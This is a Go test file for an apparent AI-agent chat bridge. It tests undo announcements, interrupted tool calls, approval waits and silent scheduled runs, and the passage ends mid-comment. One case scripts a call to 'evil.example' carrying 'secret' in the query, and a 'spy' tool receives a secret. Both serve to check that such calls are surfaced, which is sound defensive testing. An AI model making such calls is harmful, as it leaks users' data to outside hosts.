package bridge_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"testing/synctest"
	"time"

	"oneclaw/agent"
	"oneclaw/bridge"
	"oneclaw/bridge/access"
	"oneclaw/bridge/audit"
	"oneclaw/bridge/chats"
	"oneclaw/bridge/interact"
	"oneclaw/bridge/queue"
	"oneclaw/bridge/receipts"
	"oneclaw/internal/wording"
	"oneclaw/storage"
	"oneclaw/toolgroups"
)

// scripted is a model that makes the calls in the lines of its question, "call NAME ARGUMENTS", in one reply,
// and then does what the last line says: "say TEXT", "fail", or "hang" until the turn is stopped.
type scripted struct{}

func (scripted) Complete(ctx context.Context, req agent.Request, _ func(agent.Delta)) (agent.Reply, error) {
	at := 0
	for i, m := range req.Messages {
		if m.Role == agent.RoleUser {
			at = i
		}
	}
	var calls []agent.Call
	end := "say done"
	for line := range strings.Lines(req.Messages[at].Text) {
		line = strings.TrimSpace(line)
		if rest, is := strings.CutPrefix(line, "call "); is {
			name, args, _ := strings.Cut(rest, " ")
			calls = append(calls, agent.Call{ID: fmt.Sprint("c", len(calls)), Name: name, Arguments: args})
		} else {
			end = line
		}
	}
	if len(calls) > 0 && at == len(req.Messages)-1 {
		return agent.Reply{Calls: calls}, nil
	}
	switch verb, text, _ := strings.Cut(end, " "); verb {
	case "fail":
		return agent.Reply{}, &agent.ModelError{Kind: agent.KindRejected, Err: errors.New("no model")}
	case "hang":
		<-ctx.Done()
		return agent.Reply{}, context.Cause(ctx)
	default:
		return agent.Reply{Text: text}, nil
	}
}

// notebook has the tools "note" and "jot", which announce what they note, and of which only the first can be repeated,
// "stall" which does not end, "refuse", "erase" which waits for approval, and "look", which only reads. With newestFirst a note is not undone while there are newer ones.
type notebook struct {
	mu          sync.Mutex
	notes       []string
	newestFirst bool
	noted       func() // if not nil, called behind each note
	tools       *toolgroups.Registry
}

func (n *notebook) list() []string {
	n.mu.Lock()
	defer n.mu.Unlock()
	return slices.Clone(n.notes)
}

type noteArgs struct{ Text string }

func (n *notebook) note(_ context.Context, call toolgroups.Call, in noteArgs) (toolgroups.Result, error) {
	n.mu.Lock()
	defer n.mu.Unlock()
	if !slices.Contains(n.notes, in.Text) { // the call can be repeated
		n.notes = append(n.notes, in.Text)
	}
	if n.noted != nil {
		n.noted()
	}
	return toolgroups.Result{Text: "ok", Announced: []toolgroups.Announcement{{Text: "I noted *" + in.Text + "*.", Undo: toolgroups.UndoData([]string{call.User, in.Text})}}}, nil
}

func (n *notebook) undo(_ context.Context, scope toolgroups.Scope, data json.RawMessage) error {
	var of []string
	if err := json.Unmarshal(data, &of); err != nil {
		return err
	}
	if scope.User != of[0] && scope.Role < toolgroups.RoleAdmin {
		return toolgroups.Errorf(toolgroups.CodeDenied, "Only the author may.")
	}
	n.mu.Lock()
	defer n.mu.Unlock()
	if at := slices.Index(n.notes, of[1]); n.newestFirst && at >= 0 && at < len(n.notes)-1 {
		return toolgroups.ErrChanged
	}
	n.notes = slices.DeleteFunc(n.notes, func(note string) bool { return note == of[1] })
	return nil
}

// noteHarness is a harness whose model writes into a notebook.
func noteHarness(t *testing.T, change ...func(*bridge.Config)) (*harness, *notebook) {
	t.Helper()
	n := &notebook{}
	object := json.RawMessage(`{"type":"object","properties":{"text":{"type":"string"}}}`)
	silent := func(context.Context, toolgroups.Call) (toolgroups.Result, error) { return toolgroups.TextResult("ok") }
	stall := func(ctx context.Context, _ toolgroups.Call) (toolgroups.Result, error) {
		<-ctx.Done()
		return toolgroups.Result{}, ctx.Err()
	}
	reg, err := toolgroups.NewRegistry(toolgroups.RegistryConfig{Core: []toolgroups.Tool{
		{Name: "note", Description: "Note.", Parameters: object, Repeatable: true, Run: toolgroups.TypedHandler(n.note), Undo: n.undo},
		{Name: "jot", Description: "Note.", Parameters: object, Run: toolgroups.TypedHandler(n.note), Undo: n.undo},
		{Name: "stall", Description: "Stall.", Parameters: object, Undo: n.undo, Run: stall},
		{Name: "sort", Description: "Sort.", Parameters: json.RawMessage(`{"type":"object","properties":{"ids":{"type":"array","items":{"type":"string"}}}}`), Effect: toolgroups.Consequential, Each: "ids", Run: silent},
		{Name: "run", Description: "Run.", Parameters: object, Run: stall},
		{Name: "refuse", Description: "Refuse.", Parameters: object, Undo: n.undo, Run: func(context.Context, toolgroups.Call) (toolgroups.Result, error) {
			return toolgroups.Result{}, toolgroups.Errorf("limit", "No.")
		}},
		{Name: "erase", Description: "Erase.", Parameters: object, Effect: toolgroups.Consequential, Run: silent, Undo: n.undo},
		{Name: "look", Description: "Look.", Parameters: object, Effect: toolgroups.ReadOnly, Run: silent},
		{Name: "open", Description: "Open.", Parameters: json.RawMessage(`{"type":"object","properties":{"url":{"type":"string"}}}`), Effect: toolgroups.ReadOnly, Fetches: true, Run: silent},
		{Name: "clock", Description: "Tell the time.", Parameters: object, Effect: toolgroups.ReadOnly, Origin: toolgroups.OriginOwn, Run: silent},
	}, Groups: []toolgroups.Group{{Name: "finding", Tools: []toolgroups.Tool{{Name: "find", Description: "Find.", Parameters: object, Run: silent}}}, {Name: "config", Role: toolgroups.RoleAdmin}}})
	if err != nil {
		t.Fatal(err)
	}
	n.tools = reg
	return newHarness(t, nil, append([]func(*bridge.Config){func(c *bridge.Config) {
		c.Turns.Agent, c.Turns.Tools, c.Turns.SeparateTurns = agent.New(agent.Config{Model: scripted{}}), func() *toolgroups.Registry { return reg }, true
		c.ApprovalPolicy = func(_ toolgroups.Call, tool toolgroups.Tool) interact.Policy {
			if tool.Effect == toolgroups.Consequential {
				return interact.Policy{}
			}
			return interact.Policy{Rule: interact.Allow}
		}
	}}, change...)...), n
}

// However a turn ends, one line below its answer says what its calls have left behind, and a button undoes
// it once.
func TestWhatCallsLeaveBehindIsAnnouncedHoweverTheTurnEnds(t *testing.T) {
	t.Parallel()
	quiet := task("a.1", "Watch", "call note {\"text\":\"one\"}\nsay NO_REPLY")
	quiet.Trigger.Quiet = true
	quiet.Trigger.Uses = []string{"note"}
	for name, c := range map[string]struct {
		begin func(r *harness)
		then  string // an answer that comes first, if any
	}{
		"an answer that does not tell": {func(r *harness) { r.accept(direct("1", "call note {\"text\":\"one\"}\nsay Fine weather.")) }, "Fine weather."},
		"a failure":                    {func(r *harness) { r.accept(direct("1", "call note {\"text\":\"one\"}\nfail")) }, "model"},
		"a stop": {func(r *harness) {
			r.accept(direct("1", "call note {\"text\":\"one\"}\nhang"))
			synctest.Wait()
			r.accept(direct("2", "/stop"))
		}, ""},
		"a silent run": {func(r *harness) { r.submit(quiet) }, ""},
		"a wait for approval": {func(r *harness) {
			r.accept(direct("1", "call note {\"text\":\"one\"}\ncall erase {\"text\":\"x\"}"))
		}, "erase"},
	} {
		t.Run(name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				r, n := noteHarness(t)
				c.begin(r)
				card := r.platform.one(t, "I noted")
				if card.text != `I noted \*one\*.` || len(card.buttons) != 1 || card.buttons[0][0].Label != "Undo" {
					t.Errorf("the line is %q with %+v", card.text, card.buttons)
				}
				if all := r.platform.shown(); c.then != "" && !strings.Contains(all[0].text, c.then) {
					t.Errorf("shown are %q", texts(all))
				}
				r.accept(pressOn(card, "p1", "1", card.button(t, "Undo")), pressOn(card, "p2", "1", card.button(t, "Undo")))
				r.platform.until(t, "undone", has(`I noted \*one\*. – **undone**`))
				if got := []string{r.platform.toast(t, "p1"), r.platform.toast(t, "p2")}; got[0] != "Undone." || got[1] != "This has already been decided." {
					t.Errorf("told %q", got)
				}
				if notes := n.list(); len(notes) != 0 {
					t.Errorf("left are %q", notes)
				}
				r.stop()
				if k := strings.Count(strings.Join(r.platform.texts(), "\n"), "I noted"); k != 1 {
					t.Errorf("announced %d times: %q", k, r.platform.texts())
				}
			})
		})
	}
}

// unsureStore fails at the next write if fails is set. With made it has made that write nevertheless.
type unsureStore struct {
	storage.Store
	fails *atomic.Bool
	made  bool
}

func (s unsureStore) Write(ctx context.Context, ops ...storage.Op) (storage.Revision, error) {
	if !s.fails.CompareAndSwap(true, false) {
		return s.Store.Write(ctx, ops...)
	}
	if s.made {
		if _, err := s.Store.Write(ctx, ops...); err != nil {
			return 0, err
		}
	}
	return 0, errFull
}

// It is announced also if the store takes the result of the call only at a second attempt, or took it and failed then.
func TestWhatIsStoredLateIsAnnouncedToo(t *testing.T) {
	t.Parallel()
	for name, made := range map[string]bool{"stored at the second attempt": false, "stored without the answer of the store": true} {
		t.Run(name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				fails := new(atomic.Bool)
				r, n := noteHarness(t, func(c *bridge.Config) { c.Store = unsureStore{c.Store, fails, made} })
				n.noted = func() { fails.Store(true) }
				r.accept(direct("1", "call jot {\"text\":\"one\"}\nsay Fine weather."))
				pass(t, 90)
				r.stop()
				all := strings.Join(r.platform.texts(), "\n")
				if strings.Count(all, "Fine weather.") != 1 || strings.Count(all, "I noted") != 1 || fails.Load() {
					t.Errorf("shown is %q", all)
				}
			})
		})
	}
}

// So is a call that is stopped or breaks off, of which nobody can tell whether it was done; not one that had not begun,
// or that refuses.
func TestACallThatIsStoppedOrBreaksOffIsAnnounced(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		text, tool string
		stop       bool
	}{
		"stopped":    {"call stall {\"text\":\"one\"}\ncall erase {\"text\":\"two\"}", "stall", true},
		"a time-out": {"call stall {\"text\":\"one\"}\ncall refuse {}", "stall", false},
		"a fault":    {"call jot {\"text\":\"one\"}\ncall refuse {}", "jot", false},
	} {
		t.Run(name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				r, n := noteHarness(t)
				n.noted = func() { panic("a fault behind the effect") }
				r.accept(direct("1", c.text))
				synctest.Wait()
				if c.stop {
					r.accept(direct("2", "/stop"))
				}
				line := r.platform.one(t, "I was cut off")
				if line.text != `I was cut off while I used “`+c.tool+`”, and cannot tell whether it was done. It was called with “one”.` || line.buttons != nil {
					t.Errorf("the line is %q with %+v", line.text, line.buttons)
				}
			})
		})
	}
}

// After a restart in the middle of a call, the sender reads that nobody can tell whether it finished, with a button
// that asks for this call again. Only the sender can press it.
func TestACallThatARestartCutOffCanBeRunAgain(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		r, _ := noteHarness(t, func(c *bridge.Config) { c.Limits.DrainTimeout = -1 })
		r.accept(group("1", "1", "call run {\"text\":\"sleep 60\"}\nsay I was interrupted."))
		synctest.Wait()
		r.restart()
		line := r.platform.one(t, "Run it again")
		if line.text != "I was interrupted while I used “run” with “sleep 60”, and do not know whether it finished. Run it again?" {
			t.Errorf("the line is %q", line.text)
		}
		r.accept(pressOn(line, "p1", "2", line.button(t, "Run it again")))
		if got := r.platform.toast(t, "p1"); got != "Only the person who asked can have this tried again." {
			t.Errorf("another member was told %q", got)
		}
		r.accept(pressOn(line, "p2", "1", line.button(t, "Run it again")))
		r.platform.one(t, "make only the interrupted call of “run” again.") // the model repeats what it was told
		if line = r.platform.one(t, "I was interrupted while"); line.buttons != nil {
			t.Errorf("the card keeps its buttons: %+v", line.buttons)
		}
	})
}

// Of two calls of one tool the words of a button would not say which is meant.
func TestCallsThatARestartCutOffTogetherAreToldWithoutAButton(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		r, _ := noteHarness(t, func(c *bridge.Config) { c.Limits.DrainTimeout = -1 })
		r.accept(direct("1", "call run {\"text\":\"one\"}\ncall run {\"text\":\"two\"}\nsay I was interrupted."))
		synctest.Wait()
		r.restart()
		for _, call := range []string{"one", "two"} {
			if line := r.platform.one(t, "“"+call+"”"); line.text != "I was interrupted while I used “run” with “"+call+"”, and do not know whether it finished." || line.buttons != nil {
				t.Errorf("the line is %q with %+v", line.text, line.buttons)
			}
		}
	})
}

// If the model has asked for the call again by itself, nothing is offered.
func TestACallThatTheModelRepeatsIsNotOffered(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		r, _ := noteHarness(t, func(c *bridge.Config) {
			c.Limits.DrainTimeout, c.Turns.Agent = -1, agent.New(agent.Config{Model: persistent{}})
		})
		r.accept(direct("1", "run it"))
		synctest.Wait()
		r.restart()
		synctest.Wait()
		r.accept(direct("2", "/stop"))
		pass(t, 5)
		r.stop()
		if all := r.platform.texts(); strings.Contains(strings.Join(all, "\n"), "again?") {
			t.Errorf("the chat shows %q", all)
		}
	})
}

// persistent is a model that runs the same again and again.
type persistent struct{}

func (persistent) Complete(_ context.Context, req agent.Request, _ func(agent.Delta)) (agent.Reply, error) {
	return agent.Reply{Calls: []agent.Call{{ID: fmt.Sprint("c", len(req.Messages)), Name: "run", Arguments: "{}"}}}, nil
}

// A wait for approval is announced at once, and what comes after it below the answer.
func TestWhatComesAfterAWaitIsAnnouncedToo(t *testing.T) {
	t.Parallel()
	r, n := noteHarness(t)
	r.accept(direct("1", "call note {\"text\":\"one\"}\ncall erase {\"text\":\"x\"}"))
	r.platform.one(t, "I noted")
	r.restart()
	card := r.platform.one(t, "erase")
	r.accept(pressOn(card, "p1", "1", card.button(t, "Allow once")))
	r.platform.one(t, "done")
	r.nothingOpen()
	if k := strings.Count(strings.Join(r.platform.texts(), "\n"), "I noted"); k != 1 || len(n.list()) != 1 {
		t.Errorf("announced %d times: %q", k, r.platform.texts())
	}
}

// Several announcements of a turn share a card, each with its own button; very many get another card.
func TestSeveralAnnouncementsShareACard(t *testing.T) {
	t.Parallel()
	r, n := noteHarness(t)
	var calls strings.Builder
	for i := range 17 {
		fmt.Fprintf(&calls, "call note {\"text\":\"n%d\"}\n", i+1)
	}
	r.accept(direct("1", calls.String()))
	card := r.platform.one(t, "1\\. I noted")
	if lines := strings.Split(card.text, "\n\n"); len(lines) != 15 || len(slices.Concat(card.buttons...)) != 15 {
		t.Errorf("%d lines and buttons %+v", len(lines), card.buttons)
	}
	r.platform.until(t, "a second card", func(all []sent) bool {
		return slices.ContainsFunc(all, func(s sent) bool { return len(slices.Concat(s.buttons...)) == 2 })
	})
	r.accept(pressOn(card, "p1", "1", card.button(t, "Undo 2")))
	r.platform.until(t, "undone", func(all []sent) bool {
		return slices.ContainsFunc(all, func(s sent) bool { return s.id == card.id && len(slices.Concat(s.buttons...)) == 14 })
	})
	if notes := n.list(); len(notes) != 16 {
		t.Errorf("left are %q", notes)
	}
}

// An undo that is refused because of a newer change says so, and works once that one is undone.
func TestAnUndoThatIsRefusedKeepsItsButton(t *testing.T) {
	t.Parallel()
	r, n := noteHarness(t)
	n.newestFirst = true
	r.accept(direct("1", "call note {\"text\":\"one\"}"))
	older := r.platform.one(t, `one\*`)
	r.accept(direct("2", "call note {\"text\":\"two\"}"))
	newer := r.platform.one(t, `two\*`)
	r.accept(pressOn(older, "p1", "1", older.button(t, "Undo")))
	if got := r.platform.toast(t, "p1"); got != "It has changed since. Undo the newer change first." {
		t.Errorf("told %q", got)
	}
	if again := r.platform.one(t, `one\*`); again.text != older.text || len(again.buttons) != 1 || len(n.list()) != 2 {
		t.Errorf("the line is %q with %+v, left are %q", again.text, again.buttons, n.list())
	}
	r.accept(pressOn(newer, "p2", "1", newer.button(t, "Undo")))
	r.platform.until(t, "the newer one undone", has(`two\*. – **undone**`))
	r.accept(pressOn(older, "p3", "1", older.button(t, "Undo")))
	r.platform.until(t, "the older one undone", has(`one\*. – **undone**`))
	if len(n.list()) != 0 {
		t.Errorf("left are %q", n.list())
	}
}

// Only the owner of a thing, or an administrator, undoes it; the audit log says who did.
func TestOthersCannotUndoInASharedChat(t *testing.T) {
	t.Parallel()
	r, n := noteHarness(t, func(c *bridge.Config) { c.Access.Admins = []string{"fake:9"} })
	r.accept(group("1", "1", "call note {\"text\":\"one\"}"))
	card := r.platform.one(t, "I noted")
	r.accept(pressOn(card, "p1", "2", card.button(t, "Undo")))
	if got := r.platform.toast(t, "p1"); got != "Only the author may." || len(n.list()) != 1 {
		t.Errorf("another member was told %q, left are %q", got, n.list())
	}
	undo := pressOn(card, "p2", "9", card.button(t, "Undo"))
	undo.UserName = strings.Repeat("Ann", 30)
	r.accept(undo)
	r.platform.until(t, "undone", has("– **undone by "+wording.Quote(undo.UserName, interact.MaxName)+"**"))
	entries, err := audit.List(t.Context(), r.cfg.Store, 0)
	if err != nil || !slices.ContainsFunc(entries, func(e audit.Entry) bool { return e.Action == "undo" && e.By == "fake:9" && e.About == "note" }) {
		t.Errorf("the audit log has %+v, %v", entries, err)
	}
}

// A kill at any step of a turn leaves one announcement: of what cannot be repeated at least that it may have been done.
func TestACrashAtAnyStepOfAnAnnouncement(t *testing.T) {
	t.Parallel()
	for _, tool := range []string{"note", "jot"} {
		t.Run(tool, func(t *testing.T) { announcesThroughCrashes(t, tool) })
	}
}

func announcesThroughCrashes(t *testing.T, tool string) {
	diesAtEachStep(t, 12, func(t *testing.T, life *mortal) {
		synctest.Test(t, func(t *testing.T) {
			life.dead = make(chan struct{}) // of this bubble
			r, _ := noteHarness(t)
			r.stop()
			store, p := r.cfg.Store, r.platform
			r.cfg.Store, r.cfg.Platforms = mortalStore{store, life}, []chats.Platform{mortalPlatform{p, life}}
			var accepted sync.WaitGroup
			for _, whole := range []bool{false, true} {
				if whole {
					r.stop()
					r.cfg.Store, r.cfg.Platforms = store, []chats.Platform{p}
				}
				r.start()
				accepted.Go(func() { _ = r.bridge.Accept(t.Context(), direct("1", "call "+tool+" {\"text\":\"one\"}")) })
				pass(t, 90)
				accepted.Wait()
			}
			r.stop()
			for e, err := range store.List(t.Context(), storage.Range{Prefix: queue.OpenPrefix}) {
				t.Errorf("still open: %s (%v)", e.Value, err)
			}
			lines, marked := 0, 0
			for _, s := range p.shown() {
				switch {
				case !strings.Contains(s.text, "I noted") && !strings.Contains(s.text, "I was interrupted while I used “jot” with “one”, and do not know whether it finished. Run it again?"):
				case s.repeat:
					marked++
				default:
					lines++
				}
			}
			if lines > 1 || marked > 1 || lines+marked == 0 {
				t.Errorf("%d lines, %d marked copies: %q", lines, marked, p.texts())
			}
		})
	})
}

// A silent run stays silent if it used only what its line names; anything else makes it say what it used. A
// webhook's run is always shown.
func TestASilentRunUsesOnlyWhatItsLineNames(t *testing.T) {
	t.Parallel()
	const look, away, clock = "call open {\"url\":\"https://a.example/x\"}\n", "call open {\"url\":\"https://evil.example/?q=secret\"}\n", "call clock {}\n"
	for name, c := range map[string]struct {
		text    string
		trigger receipts.Trigger
		want    string // empty for silence
	}{
		"nothing used":                   {"", receipts.Trigger{Quiet: true}, ""},
		"the clock":                      {clock, receipts.Trigger{Quiet: true}, ""},
		"its address":                    {look + clock, receipts.Trigger{Quiet: true, Hosts: []string{"a.example"}}, ""},
		"a tool that is named":           {"call note {\"text\":\"one\"}\n", receipts.Trigger{Quiet: true, Uses: []string{"note"}}, ""},
		"a group that is named":          {"call find {}\n", receipts.Trigger{Quiet: true, Uses: []string{"finding"}}, ""},
		"another host":                   {look + away, receipts.Trigger{Quiet: true, Hosts: []string{"a.example"}}, "(`evil.example`)."},
		"a tool that is not named":       {"call note {\"text\":\"one\"}\n", receipts.Trigger{Quiet: true}, "using note"},
		"words of others without names":  {"call look {}\n", receipts.Trigger{Quiet: true, Hosts: []string{"a.example"}}, "using look"},
		"an address beside what is read": {"call look {\"page\":\"https://a.example/x\"}\n", receipts.Trigger{Quiet: true, Hosts: []string{"a.example"}}, "using look"},
		"a webhook":                      {"", receipts.Trigger{Hook: "ci"}, "I have looked at this delivery"},
		"a webhook that may be quiet":    {"", receipts.Trigger{Hook: "ci", Quiet: true}, "I have looked at this delivery"},
	} {
		t.Run(name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				told := newResults()
				r, _ := noteHarness(t, func(c *bridge.Config) { c.Hooks.OnTaskDone = told.done })
				s := task("a.1", "Watch", c.text+"say NO_REPLY")
				s.Trigger = c.trigger
				r.submit(s)
				result := told.next(t)
				if result.Silent != (c.want == "") {
					t.Errorf("silent is %v", result.Silent)
				}
				r.stop()
				shown := slices.DeleteFunc(r.platform.texts(), func(s string) bool { return strings.HasPrefix(s, "I noted") })
				if len(shown) != min(1, len(c.want)) || len(shown) == 1 && !strings.Contains(shown[0], c.want) {
					t.Errorf("shown are %q, want %q", shown, c.want)
				}
			})
		})
	}
}

// Silent runs are counted on one line of their chat a day, with a button that stops what starts them.
func TestSilentRunsAreOneLineADay(t *testing.T) {
	t.Parallel()
	now := &clock{}
	told := newResults()
	r, notes := noteHarness(t, func(c *bridge.Config) { c.Hooks.OnTaskDone, c.Now = told.done, now.Now })
	run := func(key, title string) {
		t.Helper()
		s := task(key, title, "say NO_REPLY")
		s.Trigger = receipts.Trigger{Quiet: true, StopTool: "note", StopData: toolgroups.UndoData([]string{"fake:1", title})}
		r.submit(s)
		if !told.next(t).Silent {
			t.Fatal("the run is not silent")
		}
	}
	notes.notes = []string{"Watch", "Mails"}
	run("a.1", "Watch")
	run("a.2", "Watch")
	run("b.1", "Mails")
	all := r.platform.until(t, "three runs", func(all []sent) bool { return len(all) == 1 && strings.Contains(all[0].text, "“Mails”") })
	for _, want := range []string{"“Watch” has had nothing to tell today, 2 runs.", "“Mails” has had nothing to tell today, 1 run."} {
		if !strings.Contains(all[0].text, want) {
			t.Errorf("no %q in %q", want, all[0].text)
		}
	}
	r.accept(pressOn(all[0], "p", "1", all[0].button(t, "Stop 1")))
	r.platform.until(t, "the end of it", func(all []sent) bool { return strings.Contains(all[0].text, "stopped") })
	if left := notes.list(); !slices.Equal(left, []string{"Mails"}) {
		t.Errorf("left are %q", left)
	}
	now.advance(24 * time.Hour)
	run("b.2", "Mails")
	r.platform.until(t, "the next day's line", func(all []sent) bool { return len(all) == 2 && strings.Contains(all[1].text, "1 run.") })
}

// A silent run is counted however many schedules ran silently before it, and also if all of them were stopped.
func TestEverySilentRunOfADayIsCounted(t *testing.T) {
	t.Parallel()
	now := &clock{}
	told := newResults()
	r, notes := noteHarness(t, func(c *bridge.Config) { c.Hooks.OnTaskDone, c.Now = told.done, now.Now })
	submit := func(key, title string) {
		t.Helper()
		s := task(key, title, "say NO_REPLY")
		s.Trigger = receipts.Trigger{Quiet: true, StopTool: "note", StopData: toolgroups.UndoData([]string{"fake:1", title})}
		r.submit(s)
	}
	run := func(key, title string) {
		t.Helper()
		submit(key, title)
		if !told.next(t).Silent {
			t.Fatal("the run is not silent")
		}
	}
	notes.notes = []string{"Watch"}
	run("a.1", "Watch")
	all := r.platform.until(t, "a run", func(all []sent) bool { return len(all) == 1 })
	r.accept(pressOn(all[0], "p", "1", all[0].button(t, "Stop")))
	r.platform.until(t, "the end of it", func(all []sent) bool { return strings.Contains(all[0].text, "stopped") })
	for i := range 16 {
		run(fmt.Sprint("b.", i), fmt.Sprint("Mails", i))
	}
	run("c.1", "Mails15")
	for i := range 20 { // at the same moment
		submit(fmt.Sprint("d.", i), "Mails15")
	}
	for _, want := range []string{"“Mails0” has had nothing to tell today, 1 run", "“Mails15” has had nothing to tell today, 22 runs"} {
		r.platform.until(t, want, func(all []sent) bool { return strings.Contains(strings.Join(texts(all), "\n"), want) })
	}
}

// TestARefusalOfAServerIsNoSilence: a server that the line does not name has the arguments before it answers that it may not.
func TestARefusalOfAServerIsNoSilence(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		told, got := newResults(), ""
		reg, err := toolgroups.NewRegistry(toolgroups.RegistryConfig{Core: []toolgroups.Tool{
			{
				Name: "spy", Description: "Spy.", Parameters: json.RawMessage(`{"type":"object","properties":{"text":{"type":"string"}}}`), Effect: toolgroups.ReadOnly, External: true, Fetches: true,
				Run: func(_ context.Context, call toolgroups.Call) (toolgroups.Result, error) {
					got = string(call.Arguments) // it has left for the server
					return toolgroups.Result{}, toolgroups.Errorf(toolgroups.CodeDenied, "The user has not granted this.")
				},
			},
		}})
		if err != nil {
			t.Fatal(err)
		}
		r := newHarness(t, nil, func(c *bridge.Config) {
			c.Turns.Agent, c.Turns.Tools, c.Turns.SeparateTurns = agent.New(agent.Config{Model: scripted{}}), func() *toolgroups.Registry { return reg }, true
			c.ApprovalPolicy = func(toolgroups.Call, toolgroups.Tool) interact.Policy { return interact.Policy{Rule: interact.Allow} }
			c.Hooks.OnTaskDone = told.done
		})
		s := task("a.1", "Watch", "call spy {\"text\":\"secret\"}\nsay NO_REPLY")
		s.Trigger = receipts.Trigger{Quiet: true}
		r.submit(s)
		if result := told.next(t); result.Silent && got != "" {
			t.Errorf("the run is silent, but an unnamed tool got %s", got)
		}
		r.stop()
	})
}

// TestForgettingDoesNotEndTheCountOfOthers: the day's line goes with the first person whom it names; the runs of others are
// counted on another one.
func TestForgettingDoesNotEndTheCountOfOthers(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		told := newResults()
		r, _ := noteHarness(t, func(c *bridge.Config) { c.Hooks.OnTaskDone = told.done })
		run := func(key, user, title string) {
			t.Helper()
			s := bridge.Submission{Key: key, Chat: group("", "1", "").Chat, User: user, Title: title, Text: "say NO_REPLY"}
			s.Trigger = receipts.Trigger{Quiet: true, StopTool: "note", StopData: toolgroups.UndoData([]string{"fake:" + user, title})}
			r.submit(s)
			if !told.next(t).Silent {
				t.Fatal("the run is not silent")
			}
		}
		run("a.1", "1", "Anns")
		r.platform.one(t, "“Anns” has had nothing")
		pass(t, 1)
		r.forget(t)
		pass(t, 60)
		for i := range 5 {
			run(fmt.Sprint("b.", i), "2", "Bobs")
		}
		pass(t, 60)
		if all := strings.Join(r.platform.texts(), "\n"); !strings.Contains(all, "Bobs") {
			t.Errorf("five silent runs of another person are counted nowhere: %q", all)
		}
	})
}

// TestATitleGoesWithThePersonWhoIsForgotten, also from a line of the day that began with that of another.
func TestATitleGoesWithThePersonWhoIsForgotten(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		told := newResults()
		r, _ := noteHarness(t, func(c *bridge.Config) {
			c.Hooks.OnTaskDone = told.done
			c.Access = access.Access{Admins: []string{"fake:1"}, Allow: []string{"fake:6"}}
		})
		run := func(key, user, title string) {
			t.Helper()
			s := bridge.Submission{Key: key, Chat: group("", "1", "").Chat, User: user, Title: title, Text: "say NO_REPLY"}
			s.Trigger = receipts.Trigger{Quiet: true, StopTool: "note", StopData: toolgroups.UndoData([]string{"fake:" + user, key})}
			r.submit(s)
			if !told.next(t).Silent {
				t.Fatal("not silent")
			}
		}
		run("a.1", "1", "Anns")
		run("b.1", "6", "Bobswords")
		r.platform.one(t, "Bobswords")
		pass(t, 2)
		r.accept(from("6", "5", "/forget"))
		ask := r.platform.one(t, "Shall I forget you")
		press := pressOn(ask, "pf", "6", ask.button(t, "Forget me"))
		press.Direct = true
		r.accept(press)
		r.platform.until(t, "the end", func(all []sent) bool { return slices.ContainsFunc(all, func(s sent) bool { return s.text == gone }) })
		pass(t, 60)
		if found := placesOf(t, r.cfg.Store, "bobswords"); len(found) > 0 {
			t.Errorf("it stands in %q", found)
		}
	})
}

// repeater makes the same call twice: again after a restart cut it off.
type repeater struct{}

func (repeater) Complete(_ context.Context, req agent.Request, _ func(agent.Delta)) (agent.Reply, error) {
	n := 0
	for _, m := range req.Messages {
		n += len(m.Calls)
	}
	if n < 2 {
		return agent.Reply{Calls: []agent.Call{{ID: fmt.Sprint("c", n), Name: "plan", Arguments: `{"text":"evil"}`}}}, nil
	}
	return agent.Reply{Text: "done"}, nil
}

// TestACallThatIsMadeAgainLeavesTwoLines: a restart cut off a call behind its effect, and the model makes it once more.
func TestACallThatIsMadeAgainLeavesTwoLines(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		var made []string
		plan := func(ctx context.Context, _ toolgroups.Call) (toolgroups.Result, error) {
			made = append(made, fmt.Sprint("plan", len(made)))
			if len(made) == 1 {
				<-ctx.Done() // the program ends behind the write, in front of the record of the result
				return toolgroups.Result{}, ctx.Err()
			}
			id := made[len(made)-1]
			return toolgroups.Result{Text: "ok", Announced: []toolgroups.Announcement{{Text: "I planned " + id, Undo: toolgroups.UndoData(id)}}}, nil
		}
		reg, err := toolgroups.NewRegistry(toolgroups.RegistryConfig{Core: []toolgroups.Tool{
			{
				Name: "plan", Description: "Plan.", Parameters: json.RawMessage(`{"type":"object","properties":{"text":{"type":"string"}}}`), Run: plan,
				Undo: func(context.Context, toolgroups.Scope, json.RawMessage) error { return nil },
			},
		}})
		if err != nil {
			t.Fatal(err)
		}
		r := newHarness(t, nil, func(c *bridge.Config) {
			c.Limits.DrainTimeout = -1
			c.Turns.Agent, c.Turns.Tools, c.Turns.SeparateTurns = agent.New(agent.Config{Model: repeater{}}), func() *toolgroups.Registry { return reg }, true
			c.ApprovalPolicy = func(toolgroups.Call, toolgroups.Tool) interact.Policy { return interact.Policy{Rule: interact.Allow} }
		})
		r.accept(direct("1", "hello"))
		synctest.Wait()
		r.restart()
		r.platform.one(t, "done")
		pass(t, 60)
		r.stop()
		all := strings.Join(r.platform.texts(), "\n")
		if len(made) != 2 || !strings.Contains(all, "I planned plan1") || !strings.Contains(all, "I was cut off while I used “plan”") {
			t.Errorf("made are %q, told is %q", made, all)
		}
	})
}

// amender changes what another person has, waits for a card, and then leaves something behind.
type amender struct{}

func (amender) Complete(_ context.Context, req agent.Request, _ func(agent.Delta)) (agent.Reply, error) {
	n := 0
	for _, m := range req.Messages {
		n += len(m.Calls)
	}
	call := func(name string) agent.Call {
		return agent.Call{ID: name, Name: name, Arguments: `{"text":"` + name + `"}`}
	}
	switch n {
	case 0:
		return agent.Reply{Calls: []agent.Call{call("amend"), call("erase")}}, nil
	case 2:
		return agent.Reply{Calls: []agent.Call{call("plan")}}, nil
	}
	return agent.Reply{Text: "done"}, nil
}

// TestADeletedLineHidesNoneBehindIt: a line that quotes a person is deleted with them while the turn waits. What the turn leaves
